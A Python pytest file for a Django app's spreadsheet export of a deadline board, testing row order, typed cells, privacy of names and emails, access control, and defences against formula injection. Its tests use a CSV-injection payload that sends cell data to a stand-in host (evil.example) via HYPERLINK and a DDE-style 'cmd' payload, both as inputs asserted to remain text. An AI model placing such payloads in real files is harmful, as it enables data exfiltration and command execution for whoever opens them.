"""The board as XLSX and CSV: the rows of the page, typed, harmless, without people."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
from django.test import Client, override_settings
from django.utils.http import urlencode

from accounts.models import User
from accounts.permissions import Role
from calendar_app.spreadsheets.tables import FORMULA, Table, as_csv, as_xlsx
from regions.models import Body
from tests.calendar_app.board_pages import BOARD, half_year_of_all_states, link, names, signed_in

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"Су")'


@pytest.fixture
def desk(person: Callable[..., User], authority: User, late: None) -> Client:
    half_year_of_all_states(person, authority)
    return signed_in(authority)


def sheet_rows(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def below_headings(read: list[list[Any]]) -> list[dict[str, Any]]:
    """Rows as heading → value; the headings are the first row that is filled to its end."""
    at = next(index for index, row in enumerate(read) if len(row) > 1 and row[-1])
    return [dict(zip(read[at], row, strict=True)) for row in read[at + 1 :]]


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["kk", "ru", "en"])
@pytest.mark.parametrize(
    "asked", [{}, {"sort": "days_left"}, {"state": "submitted"}, {"q": "акимат", "remind": "nobody"}]
)
def test_files_hold_the_rows_of_the_page_in_their_order(
    desk: Client, language: str, asked: dict[str, str]
) -> None:
    page = desk.get(f"{BOARD.format(language)}?{urlencode(asked)}").content.decode()

    xlsx = below_headings(sheet_rows(desk.get(link(page, "xlsx")).content))
    text = below_headings(csv_rows(desk.get(link(page, "csv")).content))

    assert [next(iter(row.values())) for row in xlsx] == names(page)
    assert [next(iter(row.values())) for row in text] == names(page)


@pytest.mark.django_db
def test_days_are_days_and_numbers_are_numbers(desk: Client) -> None:
    url = f"{BOARD.format('en')}board.xlsx"
    xlsx = {row["Code"]: row for row in below_headings(sheet_rows(desk.get(url).content))}
    text = {
        row["Code"]: row for row in below_headings(csv_rows(desk.get(url.replace("xlsx", "csv")).content))
    }

    late = xlsx["akimat.15"]
    assert late["Submitted (time of Almaty)"] == datetime(2026, 12, 2, 0, 30)  # noqa: DTZ001
    assert late["Last day"] == datetime(2026, 12, 1)  # noqa: DTZ001
    assert (late["Came late"], late["Overdue"], late["Days left"]) == ("yes", None, None)
    assert text["akimat.15"]["Submitted (time of Almaty)"] == "2026-12-02 00:30"
    assert text["akimat.15"]["Last day"] == "2026-12-01"
    assert (xlsx["akimat.27"]["Days left"], text["akimat.27"]["Days left"]) == (-1, "-1")
    assert xlsx["akimat.27"]["Overdue"] == "yes"
    assert xlsx["akimat.19"]["Round"] == 2
    assert xlsx["akimat.71"]["Nobody to remind"] == "yes"
    assert xlsx["akimat.71"]["Rule set"] == "decree-draft-2023"


@pytest.mark.django_db
@pytest.mark.parametrize("ending", ["xlsx", "csv"])
def test_a_file_begins_with_its_headings(desk: Client, ending: str) -> None:
    answer = desk.get(f"{BOARD.format('en')}board.{ending}?state=submitted&q=акимат")

    read = (sheet_rows if ending == "xlsx" else csv_rows)(answer.content)

    assert read[0][:3] == ["Akimat", "Code", "State"]
    assert {row[2] for row in read[1:]} == {"Submitted"}
    assert {len(row) for row in read} == {len(read[0])}
    made = re.search(r'filename="(.+)"', answer.headers["Content-Disposition"])
    assert made
    pattern = rf"demo-topic-lists-2027-H1-20261202-\d{{4}}-search-submitted\.{ending}"
    assert re.fullmatch(pattern, made.group(1))
    with override_settings(DEMO=False):
        assert "demo" not in desk.get(f"{BOARD.format('en')}board.{ending}").headers["Content-Disposition"]


@pytest.mark.django_db
def test_a_workbook_says_as_of_when_by_what_rules_and_that_it_is_a_demonstration(desk: Client) -> None:
    url = f"{BOARD.format('en')}board.xlsx?state=submitted"
    about = about_sheet(desk.get(url).content)
    for said in ("2 December 2026, 00:00", "decree-draft-2023", "Demonstration", "Submitted"):
        assert said in about

    with override_settings(DEMO=False):
        assert "Demonstration" not in about_sheet(desk.get(url).content)


def about_sheet(content: bytes) -> str:
    sheet = openpyxl.load_workbook(io.BytesIO(content))["About this table"]
    return "\n".join(str(row[0].value) for row in sheet.iter_rows())


@pytest.mark.django_db
@pytest.mark.parametrize("ending", ["xlsx", "csv"])
def test_no_person_address_or_word_of_a_list_leaves_with_a_file(desk: Client, ending: str) -> None:
    answer = desk.get(f"{BOARD.format('kk')}board.{ending}")
    content = answer.content
    if ending == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            content = b"".join(packed.read(name) for name in packed.namelist())
    text = content.decode() + answer.headers["Content-Disposition"]

    people = User.objects.all()
    assert people
    for person in people:
        assert person.full_name not in text
        assert person.email not in text
    for secret in ("Ауыз су", "Качество питьевой воды", "Әкім іссапарда болды", "@", "authority"):
        assert secret not in text


@pytest.mark.django_db
@pytest.mark.parametrize("ending", ["xlsx", "csv"])
@pytest.mark.parametrize(("who", "status"), [("officer", 403), ("nobody", 302)])
def test_files_are_for_those_who_see_the_board(officer: User, ending: str, who: str, status: int) -> None:
    client = signed_in(officer) if who == "officer" else Client()

    answer = client.get(f"{BOARD.format('kk')}board.{ending}")

    assert answer.status_code == status
    assert "Content-Disposition" not in answer.headers


@pytest.mark.django_db
def test_a_body_that_an_administrator_called_a_formula_stays_a_text(
    person: Callable[..., User], authority: User
) -> None:
    rename(signed_in(person("authority", Role.ADMIN, username="admin")), "akimat.10", EVIL)
    client = signed_in(authority)

    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"{BOARD.format('kk')}board.xlsx").content)).active
    cell = next(row[0] for row in sheet.iter_rows() if row[1].value == "akimat.10")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    text = below_headings(csv_rows(client.get(f"{BOARD.format('kk')}board.csv").content))
    assert "'" + EVIL in [next(iter(row.values())) for row in text]


def rename(admin: Client, code: str, name: str) -> None:
    url = f"/admin/regions/body/{code}/change/"
    form = admin.get(url).context["adminform"].form
    data = {key: value for key, value in form.initial.items() if value is not None}
    inline = {"TOTAL_FORMS": 0, "INITIAL_FORMS": 0, "MIN_NUM_FORMS": 0, "MAX_NUM_FORMS": 0}
    data |= {f"former_names-{key}": value for key, value in inline.items()}
    answer = admin.post(url, data | {"name_kk": name})
    assert answer.status_code == 302
    assert Body.objects.get(code=code).name_kk == name


@pytest.mark.parametrize("sign", FORMULA)
def test_no_text_begins_a_formula(sign: str) -> None:
    text = f"{sign}cmd|' /C calc'!A0"
    table = Table("x", ["a", sign], [[text, -1]], notes=[text])

    for row in csv_rows(as_csv(table)):
        assert row[0].startswith(("'", "a"))
    assert csv_rows(as_csv(table))[-1] == [f"'{text}", "-1"]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(table)))
    sheet, about = book.worksheets
    assert (about["A1"].value, about["A1"].data_type, about["A1"].quotePrefix) == (text, "s", True)
    kinds = {cell.coordinate: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert kinds == {"A1": "s", "B1": "s", "A2": "s", "B2": "n"}
    assert sheet["A2"].quotePrefix


@pytest.mark.parametrize(
    "text", ["\x01a\x0bb", "a\uffffb", 'a;b"c\nd', "#N/A", "TRUE", "0123", "1E5", "😀 ₸", ""]
)
def test_any_text_comes_back_as_a_text(text: str) -> None:
    table = Table("2027/H1: [*?]" + "x" * 40, ["Су"], [[text], [date(2026, 12, 1)]])
    kept = re.sub("[\x01\x0b\uffff]", "", text)

    assert [row[0] if row else "" for row in csv_rows(as_csv(table))][1] == kept
    read = sheet_rows(as_xlsx(table))
    assert (read[1][0] or "") == kept
    assert read[2] == [datetime(2026, 12, 1)]  # noqa: DTZ001
